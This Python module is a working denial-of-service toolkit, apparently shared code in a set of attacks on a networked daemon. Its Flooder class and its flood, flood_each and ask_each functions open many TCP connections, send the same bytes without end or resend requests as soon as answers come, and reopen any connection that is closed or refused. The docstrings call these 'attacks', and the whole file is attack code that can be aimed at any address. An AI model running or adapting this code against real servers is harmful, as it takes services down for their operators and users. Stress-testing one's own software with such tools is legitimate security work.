"""Common parts of attacks over TCP: many connections that send the same bytes again and again."""

import os
import selectors
import socket
import time
from collections.abc import Sequence
from contextlib import suppress

_PAUSE_SECONDS = 0.05  # before a connection that was closed or refused is opened again


class Flooder:
    """One connection that says hello, waits for the answer, and then sends `flood` without end."""

    def __init__(self, address: tuple[str, int], hello: bytes, flood: bytes) -> None:
        self.socket = socket.create_connection(address, timeout=10)
        self.socket.sendall(hello)
        self.socket.recv(65_536)
        self.socket.setblocking(False)
        self._flood = flood
        self._rest = memoryview(flood)

    def send(self) -> None:
        """Send what the operating system takes. Raises OSError when the daemon has closed the connection."""
        self._rest = self._rest[self.socket.send(self._rest) :] or memoryview(self._flood)

    def read(self) -> None:
        """Raises OSError when the daemon has closed the connection."""
        if not self.socket.recv(65_536):
            raise ConnectionResetError


def flood(address: tuple[str, int], hellos: list[bytes], data: bytes) -> None:
    """Flood from one connection for each hello; a connection that is closed is opened again. Never returns."""
    flood_each(address, [(hello, data) for hello in hellos])


def flood_each(address: tuple[str, int], senders: Sequence[tuple[bytes, bytes]], *, waits: bool = False) -> None:
    """As `flood`, where each connection has data of its own. `waits`: it sends them again when an answer has come."""
    os.nice(10)  # an attacker is not on the daemon's machine, and takes no processor from it
    chosen = selectors.DefaultSelector()
    wanted = selectors.EVENT_READ if waits else selectors.EVENT_READ | selectors.EVENT_WRITE
    again: list[tuple[float, tuple[bytes, bytes]]] = [(0.0, sender) for sender in senders]
    while True:
        while again and again[0][0] <= time.monotonic():
            _, sender = again.pop(0)
            try:
                flooder = Flooder(address, *sender)
                flooder.send()
                chosen.register(flooder.socket, wanted, (flooder, sender))
            except OSError:
                again.append((time.monotonic() + _PAUSE_SECONDS, sender))
        for key, events in chosen.select(_PAUSE_SECONDS):
            flooder, sender = key.data
            try:
                if events & selectors.EVENT_READ:
                    flooder.read()
                if waits or events & selectors.EVENT_WRITE:
                    flooder.send()
            except BlockingIOError:
                pass
            except OSError:
                chosen.unregister(flooder.socket)
                with suppress(OSError):
                    flooder.socket.close()
                again.append((time.monotonic() + _PAUSE_SECONDS, sender))


def ask_each(address: tuple[str, int], requests: list[bytes]) -> None:
    """Send each request on a connection of its own, and again as soon as an answer comes. Never returns."""
    os.nice(10)
    chosen = selectors.DefaultSelector()
    again = [(0.0, one) for one in requests]
    while True:
        while again and again[0][0] <= time.monotonic():
            _, one = again.pop(0)
            opened = socket.create_connection(address, timeout=10)
            opened.sendall(one)
            chosen.register(opened, selectors.EVENT_READ, one)
        for key, _ in chosen.select(_PAUSE_SECONDS):
            answered, one = key.fileobj, key.data
            assert isinstance(answered, socket.socket)
            try:
                if not answered.recv(1 << 20):
                    raise ConnectionResetError
                answered.sendall(one)
            except OSError:
                chosen.unregister(answered)
                answered.close()
                again.append((time.monotonic() + _PAUSE_SECONDS, one))
